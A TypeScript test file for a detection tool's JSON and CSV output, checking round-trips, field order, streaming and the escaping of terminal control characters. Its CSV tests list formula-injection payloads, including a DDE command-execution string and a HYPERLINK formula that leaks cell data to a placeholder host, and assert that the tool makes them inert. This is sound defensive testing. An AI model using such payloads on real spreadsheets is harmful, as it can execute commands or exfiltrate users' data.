import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { jsonText } from '../../src/cli/json.ts'
import { csvCell, csvTable, jsonDocument, jsonLines } from '../../src/cli/stream.ts'
import { makeOutput } from '../../src/cli/terminal.ts'
import { diagnose } from '../../src/core/diagnostic.ts'
import { sampleFinding, sampleOutcome, sampleRun } from '../support/findings.ts'
import { fakeOutput, fakeStream } from '../support/output.ts'

/** Cells of a CSV text (RFC 4180), read by this test's own reader. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const char = text[at]
    if (isQuoted) {
      if (char === '"' && text[at + 1] === '"') {
        cell += '"'
        at++
      } else if (char === '"') isQuoted = false
      else cell += char
    } else if (char === '"') isQuoted = true
    else if (char === ',') {
      row.push(cell)
      cell = ''
    } else if (char === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
    } else cell += char
  }
  return rows
}

describe('JSON', () => {
  it('reads back as the same value and shows nothing that a terminal obeys', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const printed = jsonText({ [`k${text}`]: text })
        expect(JSON.parse(printed)).toEqual({ [`k${text}`]: text })
        expect(printed).not.toMatch(/[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/)
      }),
    )
  })

  it('lines hold one finding each, keys in the order of the contract', async () => {
    const output = fakeOutput()
    const writer = jsonLines(output.out)
    await writer.write(sampleFinding({ host: 'a\nb' }))
    await writer.write(sampleFinding())
    await writer.end(sampleRun([]))
    const lines = output.outText().split('\n')
    expect(lines).toHaveLength(3)
    const [first = ''] = lines
    expect(Object.keys(JSON.parse(first))).toEqual([
      'time',
      'rule_id',
      'rule_title',
      'language',
      'level',
      'host',
      'tags',
      'source',
      'file',
      'record',
      'id',
      'event',
    ])
    expect(JSON.parse(first)).toEqual(sampleFinding({ host: 'a\nb' }))
  })

  it('document holds findings, rules and totals', async () => {
    const output = fakeOutput()
    const writer = jsonDocument(output.out)
    await writer.write(sampleFinding())
    await writer.write(sampleFinding({ record: 8 }))
    const failed = sampleOutcome({
      state: 'failed',
      findings: 0,
      diagnostics: [diagnose('HR256', { limit: 200 })],
    })
    const first = '2024-01-05T10:11:12.1234567Z'
    await writer.end(sampleRun([sampleOutcome({ findings: 2, first, last: first }), failed]))
    const parsed = JSON.parse(output.outText())
    expect(Object.keys(parsed)).toEqual(['findings', 'rules', 'totals'])
    expect(parsed.findings).toEqual([sampleFinding(), sampleFinding({ record: 8 })])
    expect(parsed.rules[0]).toEqual({
      id: 'rule-1',
      title: 'Suspicious Thing',
      language: 'sigma',
      level: 'high',
      file: 'rules/a.yml',
      state: 'fired',
      findings: 2,
      first,
      last: first,
    })
    expect(parsed.rules[1].diagnostics[0]).toMatchObject({ code: 'HR256', severity: 'error' })
    expect(parsed.totals).toMatchObject({ findings: 2, rules: 2, fired: 1, failed: 1 })
  })

  it('document is valid without a finding and after an interrupt', async () => {
    const output = fakeOutput()
    await jsonDocument(output.out).end(sampleRun([], { interrupted: true }))
    expect(JSON.parse(output.outText())).toMatchObject({
      findings: [],
      rules: [],
      totals: { interrupted: true },
    })
  })

  it('is written as it comes and waits for a slow reader', async () => {
    const out = fakeStream()
    const { out: writer } = makeOutput({ out, err: fakeStream(), env: {} })
    const lines = jsonLines(writer)
    out.needDrain(true)
    const event = { CommandLine: 'x'.repeat(70_000) }
    const waiting = lines.write(sampleFinding({ event }))
    expect(waiting).toBeInstanceOf(Promise)
    expect(out.text().length).toBeGreaterThan(70_000)
    out.needDrain(false)
    await waiting
  })
})

describe('CSV', () => {
  const formulas = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"click")',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '=1+1","=2+2',
    '"=1+1"',
  ]

  it.each(formulas)('makes %j inert in every column', async (formula) => {
    const output = fakeOutput()
    const writer = csvTable(output.out, false)
    await writer.write(
      sampleFinding({
        time: formula,
        rule_id: formula,
        rule_title: formula,
        host: formula,
        tags: [formula],
        source: formula,
        file: formula,
        id: formula,
        event: { [formula]: formula },
        title: formula,
        description: formula,
        rows: 2,
        entities: [{ type: formula, Name: formula }],
        details: { [formula]: [formula] },
        risk_message: formula,
        risk: [{ field: formula, value: formula, type: 'user', score: 1, message: formula }],
        threat_objects: [{ field: formula, value: formula, type: formula }],
      }),
    )
    await writer.end(sampleRun([]))
    const [head, row, ...rest] = readCsv(output.outText())
    expect(rest).toEqual([])
    expect(head).toHaveLength(20)
    expect(row).toHaveLength(20)
    for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
    expect(JSON.parse(row?.[11] ?? '')).toEqual({ [formula]: formula })
    expect(JSON.parse(row?.[16] ?? '')).toEqual({ [formula]: [formula] })
  })

  it('keeps one finding on one line, and the event whole', async () => {
    const output = fakeOutput()
    const writer = csvTable(output.out, false)
    const event = { a: 'line 1\nline 2,"quoted"\x1b[0m', list: ['x', 'y'], none: null }
    await writer.write(sampleFinding({ host: 'a\nb,"c"\x1b', event }))
    await writer.end(sampleRun([]))
    expect(output.outText().split('\n')).toHaveLength(3)
    const [, row] = readCsv(output.outText())
    expect(row?.[5]).toBe('a\\nb,"c"\\x1b')
    expect(row?.[6]).toBe('attack.execution attack.t1059.001')
    expect(JSON.parse(row?.[11] ?? '')).toEqual(event)
  })

  it('gives raw cells only when asked and never to a terminal', async () => {
    expect(csvCell('=1+1', true)).toBe('=1+1')
    expect(csvCell('a\nb', true)).toBe('"a\nb"')
    expect(csvCell('-1', false)).toBe("'-1")
    const host = '=1\x1b[2J'
    for (const [columns, expected] of [
      [undefined, host],
      [100, "'=1\\x1b[2J"],
    ] as const) {
      const output = fakeOutput(columns === undefined ? {} : { columns })
      const writer = csvTable(output.out, true)
      await writer.write(sampleFinding({ host }))
      await writer.end(sampleRun([]))
      expect(readCsv(output.outText())[1]?.[5]).toBe(expected)
    }
  })
})
